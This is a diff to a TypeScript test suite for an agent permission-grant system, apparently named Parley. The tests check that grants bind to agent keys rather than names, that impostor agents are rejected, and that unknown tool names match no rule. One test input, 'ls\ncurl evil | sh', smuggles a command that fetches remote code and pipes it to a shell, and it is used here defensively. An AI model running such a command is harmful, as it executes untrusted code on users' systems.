@@ -6,7 +6,9 @@ import { narrowestRule } from "../../../src/grants/narrowest-rule";
 
 const NOW = 1_000_000;
 const SESSION = "a".repeat(32);
-const place = { sessionId: SESSION, agent: { name: "Claude Code", key: "k1" } };
+const KEY_A = "a1".repeat(16);
+const KEY_B = "b2".repeat(16);
+const place = { sessionId: SESSION, agent: { name: "Claude Code", key: KEY_A, own: false } };
 const call = { toolName: "Bash", input: { command: "npm run test -- --watch=false" } };
 
 function grant(overrides: Partial<ApplicableGrant>): ApplicableGrant {
@@ -44,16 +46,46 @@ describe("decidingGrant", () => {
     expect(decidingGrant([grant({ revokedAt: 5 })], call, place, NOW)).toBeNull();
   });
 
-  it("applies a session grant only in its session, an agent grant only to its agent (and key)", () => {
+  it("applies a session grant only in its session", () => {
     expect(decidingGrant([grant({ scope: "session", sessionId: SESSION })], call, place, NOW)).not.toBeNull();
     expect(
       decidingGrant([grant({ scope: "session", sessionId: "b".repeat(32) })], call, place, NOW),
     ).toBeNull();
+  });
+
+  it("applies an agent grant to its agent key, whatever name the agent gives itself", () => {
     const agent = (name: string, key: string | null) => grant({ scope: "agent", agent: { name, key } });
-    expect(decidingGrant([agent("Claude Code", null)], call, place, NOW)).not.toBeNull();
-    expect(decidingGrant([agent("Claude Code", "k1")], call, place, NOW)).not.toBeNull();
-    expect(decidingGrant([agent("Claude Code", "k2")], call, place, NOW)).toBeNull();
-    expect(decidingGrant([agent("Parley", null)], call, place, NOW)).toBeNull();
+    expect(decidingGrant([agent("Claude Code", KEY_A)], call, place, NOW)).not.toBeNull();
+    expect(decidingGrant([agent("Another name", KEY_A)], call, place, NOW)).not.toBeNull();
+    expect(decidingGrant([agent("Claude Code", KEY_B)], call, place, NOW)).toBeNull();
+    // A grant by name alone names no outside agent, and an agent with no key gets no agent grant.
+    expect(decidingGrant([agent("Claude Code", null)], call, place, NOW)).toBeNull();
+    const keyless = { ...place, agent: { ...place.agent, key: null } };
+    expect(decidingGrant([agent("Claude Code", null)], call, keyless, NOW)).toBeNull();
+  });
+
+  it("applies a grant for Parley's own loop to that loop only, never to an agent named Parley", () => {
+    const own = grant({ scope: "agent", agent: { name: "Parley", key: null } });
+    const loop = { sessionId: SESSION, agent: { name: "Parley", key: null, own: true } };
+    expect(decidingGrant([own], call, loop, NOW)).not.toBeNull();
+    const impostor = { sessionId: SESSION, agent: { name: "Parley", key: null, own: false } };
+    expect(decidingGrant([own], call, impostor, NOW)).toBeNull();
+    expect(
+      decidingGrant([own], call, { ...impostor, agent: { ...impostor.agent, key: KEY_A } }, NOW),
+    ).toBeNull();
+    // Nor does a keyed grant reach Parley's own loop.
+    expect(
+      decidingGrant([grant({ scope: "agent", agent: { name: "Parley", key: KEY_A } })], call, loop, NOW),
+    ).toBeNull();
+  });
+
+  it("decides nothing for a call whose tool is not known, not even a deny for everything", () => {
+    const grants = [grant({ rule: "Bash" }), grant({ grantId: "d", effect: "deny", rule: "Bash" })];
+    for (const toolName of ["acp:execute", "ls\ncurl evil | sh", "Bash "])
+      expect(decidingGrant(grants, { toolName, input: { command: "ls" } }, place, NOW)).toBeNull();
+    expect(decidingGrant(grants, { toolName: "Bash", input: { command: "ls" } }, place, NOW)?.grantId).toBe(
+      "d",
+    );
   });
 
   it("answers nothing for a call no rule covers", () => {
